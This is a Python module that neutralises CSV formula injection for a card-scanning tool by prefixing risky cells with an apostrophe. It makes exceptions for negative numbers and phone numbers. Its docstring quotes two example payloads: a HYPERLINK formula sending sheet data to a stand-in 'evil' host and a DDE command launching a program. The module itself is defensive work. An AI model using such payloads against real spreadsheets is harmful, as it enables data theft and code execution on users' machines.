"""The one rule for text cardscan writes into a CSV a spreadsheet may open.

Anyone can print a card or a QR code, and a spreadsheet program runs a cell that looks
like a formula: `=HYPERLINK("http://evil/?"&A1,"x")` sends the sheet's data away when
clicked, `@SUM(1+1)*cmd|' /C calc'!A0` asks to start a program (DDE). So every cell
cardscan writes into a CSV file a person may open (the CSV book, the csv, google and
outlook exports, `find --csv`) goes through `defuse()`, and the CSV book reads its
cells back through `undefuse()`, so everything else (matching, find, notes, exports,
JSON) sees the text as it was read from the card.

What runs (`runs_as_formula`): a cell whose first character is `=`, `+`, `-` or `@`
(OWASP's list), and to be safe their full-width forms (`＝＋－＠`, typed by East Asian
keyboards; no name or number starts with one, so the apostrophe costs nothing), also
after leading whitespace, because importers may trim it ("Trim spaces" in
LibreOffice's CSV import); and a cell that starts with a tab,
carriage return, line feed or NUL (OWASP and ASVS list tab, CR and NUL: an importer may
drop them or split the cell there, leaving what follows at the start).

What is data, not a formula, and stays as it is although it starts with `+` or `-`:
- a lone `+` or `-` (people type `-` for "none");
- a negative number: `-12`, `-3.5`, `-1,234.56` (a minus, then digits with `.` or `,`
  between digit groups), which a spreadsheet shows as it is (`+5` would show as `5`,
  so it is defused);
- phone numbers as the book writes them, `+44 20 7946 0958`, `+1 415-555-0187 ext. 240`,
  or several `; `-separated: `+` then digit groups separated by one space, `-`, `.` or
  `/` (a group may be in parentheses), an optional extension, and 7 to 15 digits per
  number. Other tools read the CSV book's phone columns, so a phone must not gain an
  apostrophe. Such a value holds no letter, quote, reference or `&`: no function, link
  or command can be in it (a program that evaluated a hand-typed `+1-415-555-0187`
  would at worst show arithmetic on its digits; the file keeps the number). `-2+3`,
  `+2-3` (too few digits for a phone), `+cmd|...` and `+1+1` (a `+` inside) are not
  phones and are defused.

How: a leading apostrophe, the mark Excel and LibreOffice users know for "this is text"
(OWASP's advice too). The xlsx book and the xlsx export never need it: they write text
cells as strings (data_type "s"), which cannot run, and an apostrophe would show in the
cell, so they do not call this module.

Reading back: `undefuse(defuse(text)) == text` for every text. The apostrophe is
taken off only where `defuse` would have put it: before text that runs, possibly after
more apostrophes. So text that itself starts with an apostrophe before a formula
(`'=x` read from a card) is written with one more (`''=x`) and reads back as it was,
and an apostrophe before anything else (`'tis`, `'90s`) is never touched.

The ambiguity: a cell the user typed as `'=not a formula` reads as `=not a formula`,
as a spreadsheet shows it when it is typed there (the apostrophe is the text mark, not
part of the text); a leading apostrophe before a formula is far more likely that mark
than part of a name. Nothing is lost: the file keeps the user's bytes unless cardscan changes that
cell, and writing `=not a formula` back gives `'=not a formula` again. A user's own
`=SUM(A1:A3)` cell is theirs: read as it is, and left alone in the file unless cardscan
writes that cell, which then comes out defused.
"""

from __future__ import annotations

import re

_TRIGGERS = frozenset("=+-@＝＋－＠")
_LEADING_CONTROL = frozenset("\t\r\n\0")

_NUMBER = re.compile(r"-[0-9]+(?:[.,][0-9]+)*")
# One phone: "+", digit groups joined by one separator (a parenthesised group may follow
# a group directly, "+44 (0)20"), an optional extension. Written so that no input makes
# the regex backtrack: a run of digits can only end at a non-digit.
_PHONE = re.compile(
    r"\+(?:[0-9]+|\([0-9]+\))(?:(?: ?[-./] ?| )?\([0-9]+\)|(?: ?[-./] ?| |(?<=\)))[0-9]+)*"
    r"(?: ?(?:ext\.?|x|#) ?[0-9]{1,6})?",
    re.IGNORECASE,
)
_PHONE_SEP = re.compile(r"; ?")
_MIN_PHONE_DIGITS = 7
_MAX_PHONE_DIGITS = 15


def runs_as_formula(text: str) -> bool:
    """Whether a spreadsheet opening a CSV could take this cell as a formula."""
    if not text:
        return False
    if text[0] in _LEADING_CONTROL:
        return True
    stripped = text.strip()
    if not stripped or stripped[0] not in _TRIGGERS:
        return False
    return not _is_data(stripped)


def defuse(text: str) -> str:
    """The cell text to write: with a leading apostrophe when it would run (see above)."""
    return "'" + text if runs_as_formula(text.lstrip("'")) else text


def undefuse(cell: str) -> str:
    """The text a defused cell stands for: the exact inverse of defuse()."""
    return cell[1:] if cell.startswith("'") and runs_as_formula(cell.lstrip("'")) else cell


def _is_data(text: str) -> bool:
    """A lone sign, a plain number, or phones as the book writes them (module docstring)."""
    if text in ("+", "-") or _NUMBER.fullmatch(text):
        return True
    return all(_is_phone(part) for part in _PHONE_SEP.split(text))


def _is_phone(text: str) -> bool:
    if not _PHONE.fullmatch(text):
        return False
    number = re.split(r"(?i) ?(?:ext|x|#)", text, maxsplit=1)[0]
    digits = sum(c in "0123456789" for c in number)
    return _MIN_PHONE_DIGITS <= digits <= _MAX_PHONE_DIGITS
